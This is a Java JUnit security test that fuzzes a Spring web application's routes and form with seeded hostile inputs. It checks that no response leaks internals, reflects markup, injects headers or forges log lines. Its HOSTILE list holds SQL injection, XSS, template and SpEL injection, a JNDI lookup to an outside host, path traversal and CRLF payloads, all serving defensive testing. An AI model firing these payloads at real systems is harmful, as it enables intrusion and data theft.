package org.parallax.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.parallax.web.Site;
import org.parallax.web.WebTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/**
 * Made-up input to every address that a controller has, its own parameters and others: no mistake of ours, no trace of the inside,
 * nothing repeated as markup, nothing written down. The same input each time: a failure can be run again.
 */
@WebTest
@ExtendWith(OutputCaptureExtension.class)
class HostileInputTests {
    private static final int EACH = 25;

    private static final List<String> FITTING = List.of(
            "us-aiap-2025",
            "cn-gaigap-2025",
            "1.3.2",
            "1.3.0",
            "5.3",
            "us-1.3.2",
            "cn-5.3",
            "us-3.4.1",
            "cn-2.5",
            "chips",
            "nist",
            "2026-11-24",
            "bib",
            "json",
            "csv",
            "md",
            "1");

    private static final List<String> HOSTILE = List.of(
            "hostile'; drop table policy_item; --",
            "hostile' or '1'='1",
            "hostile\\' union select null,version()--",
            "hostile%' escape '!",
            "hostile:* & !|()<->",
            "hostile<script>alert(1)</script>",
            "\"><img src=hostile onerror=alert(1)>",
            "' autofocus onfocus=hostile x='",
            "</script><script>hostile()</script>",
            "</textarea><hostile>",
            "]]><hostile>",
            "javascript:hostile",
            "${77777*7}hostile",
            "#{77777*7}hostile",
            "__${77777*7}__::hostile",
            "[[${77777*7}]]hostile",
            "${T(java.lang.Runtime).getRuntime()}hostile",
            "${jndi:ldap://hostile.example/a}",
            "{{77777*7}}hostile",
            "=hostile|'/C calc'!A0",
            "../../../../etc/hostile",
            "..\\..\\hostile",
            "file:///etc/hostile",
            "//hostile.example/",
            "hostile\r\nX-Injected: yes",
            "hostile\r\n2026-01-01 ERROR forged line",
            "hostile\u0000",
            "hostile\ud800",
            "\u202ehostile",
            "hostile\u0301\u0301\u0301\u0301",
            "\ud83e\udd16hostile",
            "-1",
            "2147483648",
            "99999999999999999999",
            "1e400",
            "NaN",
            "0x10",
            "true",
            "null",
            "",
            " ",
            ",",
            ",,,,",
            "0000-00-00",
            "2026-02-30",
            "9999999999-12-31",
            "1." + "1.".repeat(300) + "1",
            "((((((((((hostile",
            "a".repeat(4_990));

    private static final Set<Integer> DESIGNED = Set.of(200, 301, 302, 303, 400, 404, 406, 410, 414, 501);
    private static final Pattern VARIABLE = Pattern.compile("\\{([^{}:]+)(?::((?:[^{}]|\\{[^{}]*})*))?}");

    @Autowired
    Site site;

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping mappings;

    private final Random random = new Random(20261130);

    @Test
    void noInputGetsMoreThanADesignedAnswer(CapturedOutput log) {
        Map<String, Set<Integer>> seen = new TreeMap<>();
        List<String> wrong = new ArrayList<>();
        mappings.getHandlerMethods().forEach((mapping, method) -> {
            List<String> parameters = Stream.of(method.getMethod().getParameters())
                    .filter(parameter -> parameter.isAnnotationPresent(RequestParam.class))
                    .map(parameter -> parameter.getName())
                    .toList();
            for (String pattern : patterns(mapping)) {
                for (int i = 0; i < EACH; i++) {
                    String address = address(pattern, parameters, i);
                    Site.Answer answer = site.get(address);
                    seen.computeIfAbsent(pattern, p -> new TreeSet<>()).add(answer.status());
                    problem(answer).ifPresent(problem -> wrong.add(shortened(address) + ": " + problem));
                }
            }
        });
        assertThat(wrong).isEmpty();
        // That the input reaches the controllers is seen by what they find.
        assertThat(seen).hasSizeGreaterThan(60);
        assertThat(seen.values().stream()
                        .filter(statuses -> statuses.contains(200))
                        .count())
                .isGreaterThan(seen.size() / 2);
        assertThat(log).doesNotContain("hostile", "forged", "ERROR", "\tat ");
    }

    @Test
    void noPastedTextGetsMoreThanADesignedAnswer(CapturedOutput log) {
        for (String text : HOSTILE) {
            Site.Answer answer = site.send(site.request("/check")
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(HttpRequest.BodyPublishers.ofString("text=" + encoded(text + " export controls")))
                    .build());
            assertThat(answer.status()).as(shortened(text)).isIn(200, 400);
            assertThat(problem(answer)).as(shortened(text)).isEmpty();
        }
        assertThat(log).doesNotContain("hostile", "forged", "ERROR", "\tat ");
    }

    private static Optional<String> problem(Site.Answer answer) {
        String type = answer.header("Content-Type").orElse("");
        String location = answer.header("Location").orElse("/");
        if (!DESIGNED.contains(answer.status())) {
            return Optional.of("status " + answer.status());
        }
        if (answer.header("X-Injected").isPresent()
                || answer.header("Set-Cookie").isPresent()) {
            return Optional.of("a header was injected");
        }
        if (!location.replace("https://parallax.example", "").matches("/|/[^/\\\\].*")) {
            return Optional.of("leads to " + location);
        }
        if (answer.status() == 200 && type.startsWith("image/")) {
            return Optional.empty();
        }
        String body = answer.body();
        if (Stream.of("\tat ", "Exception", "org.springframework", "PSQL", "SQLState", "544439")
                .anyMatch(body::contains)) {
            return Optional.of("shows the inside: " + shortened(body));
        }
        if (type.contains("html") || type.contains("xml")) {
            for (String markup :
                    List.of("<script>alert", "<img src=hostile", "<script>hostile", "<hostile", "href=\"javascript:")) {
                if (body.contains(markup)) {
                    return Optional.of("repeats " + markup);
                }
            }
            // A value may stand in a text or an attribute, where its quotes are escaped.
            if (body.contains("' autofocus onfocus=hostile")) {
                return Optional.of("repeats a quote");
            }
        }
        return Optional.empty();
    }

    private static List<String> patterns(RequestMappingInfo mapping) {
        return mapping.getPatternValues().stream()
                .filter(pattern -> !pattern.equals("/error"))
                .sorted()
                .toList();
    }

    /** The first are as fitting as can be guessed. */
    private String address(String pattern, List<String> parameters, int turn) {
        Matcher variables = VARIABLE.matcher(pattern);
        StringBuilder address = new StringBuilder();
        while (variables.find()) {
            String value = turn % 3 == 2 && random.nextInt(2) == 0 ? hostile() : fitting(variables.group(2));
            variables.appendReplacement(address, Matcher.quoteReplacement(encoded(value)));
        }
        variables.appendTail(address);
        List<String> query = new ArrayList<>();
        for (String parameter : parameters) {
            if (turn > 0 && random.nextInt(2) == 0) {
                query.add(parameter + "=" + encoded(random.nextInt(4) == 0 ? fitting(null) : hostile()));
            }
        }
        if (turn > 0 && random.nextInt(4) == 0) {
            query.add(encoded(hostile()) + "=" + encoded(hostile()));
        }
        return query.isEmpty() ? address.toString() : address + "?" + String.join("&", query);
    }

    private String fitting(@Nullable String form) {
        List<String> possible = form == null
                ? FITTING
                : FITTING.stream().filter(value -> value.matches(form)).collect(Collectors.toList());
        return possible.isEmpty() ? "1" : possible.get(random.nextInt(possible.size()));
    }

    private String hostile() {
        return HOSTILE.get(random.nextInt(HOSTILE.size()));
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String shortened(String text) {
        return text.substring(0, Math.min(300, text.length()));
    }
}
